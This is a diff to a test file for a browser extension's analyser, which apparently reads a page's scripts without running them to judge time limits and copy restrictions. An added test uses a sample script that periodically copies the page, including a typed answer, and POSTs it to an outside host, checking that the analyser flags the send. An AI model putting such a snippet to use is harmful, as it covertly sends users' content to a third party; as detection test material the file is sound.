@@ -1,12 +1,8 @@
 // A page's code is followed on paper: what it would do, with nothing of it run.
 
 import assert from "node:assert/strict";
-import { createRequire } from "node:module";
 import { test } from "node:test";
-import { judgePage, rehearseOnPaper } from "../../../extension/shared/judging.js";
-
-// Node takes the parser for a module of its own older kind; browsers set the global.
-globalThis.acorn = createRequire(import.meta.url)("../../../extension/shared/acorn.js");
+import { judgePage, dryRunFrame } from "../../../extension/shared/judging.js";
 
 const node = (tag, parent, attributes = {}, more = {}) => ({
   tag,
@@ -160,7 +156,7 @@ test("what is polled and handed in with the answer is a record", () => {
 });
 
 test("a countdown to a submission is a time limit of that length", () => {
-  const paper = rehearseOnPaper(
+  const paper = dryRunFrame(
     frame(
       `let left = 600; setInterval(() => { left -= 1; if (left === 0) document.getElementById("sheet").requestSubmit(); }, 1000);`,
     ),
@@ -173,7 +169,7 @@ test("a countdown to a submission is a time limit of that length", () => {
 
 test("nothing of the page's code is run", () => {
   globalThis.wasRun = false;
-  rehearseOnPaper(
+  dryRunFrame(
     frame(
       `globalThis.wasRun = true;
       window.wasRun = true;
@@ -188,8 +184,8 @@ test("nothing of the page's code is run", () => {
 
 test("code without end comes to an end", () => {
   const began = Date.now();
-  const paper = rehearseOnPaper(frame("for (;;) {} "), 500);
-  rehearseOnPaper(
+  const paper = dryRunFrame(frame("for (;;) {} "), 500);
+  dryRunFrame(
     frame("const again = () => again(); again(); while (true) setTimeout(() => 1, 0);"),
     500,
   );
@@ -210,4 +206,11 @@ test("a style that forbids selecting is declared", () => {
   });
   assert.equal(outcome, "restricted");
   assert.equal(proofs[0].kind, "declared");
+});
+
+test("a copy of a page has what stands in it, and is sent for what it is", () => {
+  const code = `setInterval(() => { const copy = document.documentElement.cloneNode(true); copy.querySelector("#answer").textContent = answer.value;
+    fetch("https://other.example/frame", { method: "POST", body: copy.outerHTML }); }, 4000);`;
+  const paper = dryRunFrame(frame(`${answer} ${code}`), 2000);
+  assert.ok(paper.quiet.some((deed) => deed.kind === "send" && deed.certain));
 });
